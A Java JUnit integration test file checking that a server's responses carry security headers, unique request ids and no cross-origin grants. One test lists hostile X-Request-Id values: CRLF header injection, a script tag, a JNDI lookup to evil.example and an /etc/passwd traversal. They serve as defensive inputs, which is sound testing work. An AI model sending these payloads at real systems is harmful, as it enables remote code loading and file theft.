package org.countersign.it.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.countersign.it.server.ProblemAssert.assertHardened;
import static org.countersign.it.server.ProblemAssert.assertTellsNothing;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.countersign.it.server.Api;
import org.countersign.it.server.Api.Reply;
import org.countersign.it.server.OnSharedServer;
import org.countersign.it.server.ProblemAssert;
import org.countersign.it.server.RawHttp;
import org.countersign.it.server.SharedServer;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every response has the security headers and a request id, and pages of other origins cannot read it. */
@Tag("http")
@OnSharedServer
class HeadersIT {

    private static final String ID = "X-Request-Id";

    private final Api api = new Api(SharedServer.base());

    @Test
    void everyKindOfResponse_isHardened() {
        Reply signedIn = api.register(Api.newEmail());
        Stream.of(
                        signedIn,
                        api.get("/api/public"),
                        api.get("/api/protected", signedIn.accessToken()),
                        api.get("/api/protected"),
                        api.get("/api/auth/login"),
                        api.get("/api/nothing"),
                        api.get("/nothing"),
                        api.get("/.well-known/jwks.json"),
                        api.get("/.well-known/revocations"),
                        api.get("/.well-known/revocations?since=x"),
                        api.post("/api/auth/login", "{"),
                        api.post("/api/auth/login", "{}"),
                        api.post("/api/auth/login", " ".repeat(20_000)),
                        api.refresh(signedIn.refreshCookie()),
                        api.send(api.withCookie("/api/auth/logout", signedIn.refreshCookie())),
                        options("/api/public", "https://evil.example"))
                .peek(ProblemAssert::assertHardened)
                .peek(ProblemAssert::assertTellsNothing)
                .forEach(reply -> assertThat(reply.headers(ID)).hasSize(1));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "12345678",
                "0af7651916cd43dd8448eb211c80319c",
                "A_b-C_d-E_f",
                "2f1c7e4e-6c0b-4e3c-9d57-0d7f8d1f2a3b"
            })
    void validRequestId_isKept(String id) {
        Stream.of("/api/public", "/api/protected", "/nothing")
                .map(path -> api.send(api.to(path).header(ID, id)))
                .forEach(reply -> assertThat(reply.headers(ID)).containsExactly(id));
        assertThat(api.send(api.to("/api/protected").header(ID, id)).json().getString("requestId"))
                .isEqualTo(id);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "short",
                "two words",
                "a\tb12345678",
                "12345678\r\n Set-Cookie: a=b",
                "12345678%0d%0aSet-Cookie:a=b",
                "<script>alert(1)</script>",
                "12345678;",
                "12345678\"",
                "${jndi:ldap://evil.example/a}",
                "../../../etc/passwd",
                "1234567890123456789012345678901234567890123456789012345678901234x"
            })
    void hostileRequestId_isReplaced(String id) {
        Reply reply = RawHttp.send("GET /api/protected", ID + ": " + id);
        assertThat(reply.headers(ID)).hasSize(1);
        assertThat(reply.header(ID)).matches("[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}");
        assertThat(reply.json().getString("requestId")).isEqualTo(reply.header(ID));
        assertThat(reply.headers("Set-Cookie")).isEmpty();
    }

    /** The connector rejects some of these itself, with a status and without a body. */
    @ParameterizedTest
    @ValueSource(strings = {"12345678\u00E9", "12345678\u0085", "12345678\u001B[31m", "12345678\0", "12345678\u007F"})
    void requestIdThatIsNoText_isNotRepeated(String id) {
        Reply reply = RawHttp.send("GET /api/protected", ID + ": " + id);
        assertThat(reply.status()).isIn(400, 401);
        assertThat(reply.body() + reply.http().headers().map()).doesNotContain("12345678");
    }

    @Test
    void requestIdsOfTheServer_differ() {
        List<String> ids = Stream.generate(() -> api.get("/api/public").header(ID))
                .limit(20)
                .toList();
        assertThat(ids).doesNotContain("").doesNotHaveDuplicates();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example",
                "null",
                "http://localhost",
                "http://localhost:1",
                "https://localhost",
                "chrome-extension://abc",
                "nonsense"
            })
    void otherOrigin_isGrantedNothing(String origin) {
        Reply signedIn = api.register(Api.newEmail());
        Stream.of(
                        options("/api/auth/refresh", origin),
                        options("/api/protected", origin),
                        options("/nothing", origin),
                        api.send(api.to("/api/public").header("Origin", origin)),
                        api.send(api.to("/api/protected").header("Origin", origin)),
                        api.send(api.withCookie("/api/auth/refresh", signedIn.refreshCookie())
                                .header("Origin", origin)),
                        api.send(api.to("/nothing").header("Origin", origin)))
                .forEach(HeadersIT::assertGrantsNothing);
    }

    @Test
    void preflight_isAnsweredWithoutBodyAndReachesNothing() {
        Reply preflight = options("/api/auth/logout-all", "https://evil.example");
        assertThat(preflight.status()).isEqualTo(204);
        assertThat(preflight.body()).isEmpty();
        assertThat(preflight.headers("Set-Cookie")).isEmpty();
        assertThat(preflight.headers("Vary")).contains("Origin");
    }

    @Test
    void publishedKeys_areForEveryOriginButWithoutCredentials() {
        Reply keys = api.send(api.to("/.well-known/jwks.json").header("Origin", "https://evil.example"));
        assertThat(keys.headers("Access-Control-Allow-Origin")).containsExactly("*");
        assertThat(keys.headers("Access-Control-Allow-Credentials")).isEmpty();
        assertHardened(keys);
        assertTellsNothing(keys);
    }

    private Reply options(String path, String origin) {
        return api.send(api.to(path)
                .header("Origin", origin)
                .header("Access-Control-Request-Method", "POST")
                .header("Access-Control-Request-Headers", "authorization, content-type")
                .method("OPTIONS", BodyPublishers.noBody()));
    }

    private static void assertGrantsNothing(Reply reply) {
        assertThat(reply.http().headers().map().keySet())
                .noneMatch(name -> name.toLowerCase(Locale.ROOT).startsWith("access-control-"));
    }
}
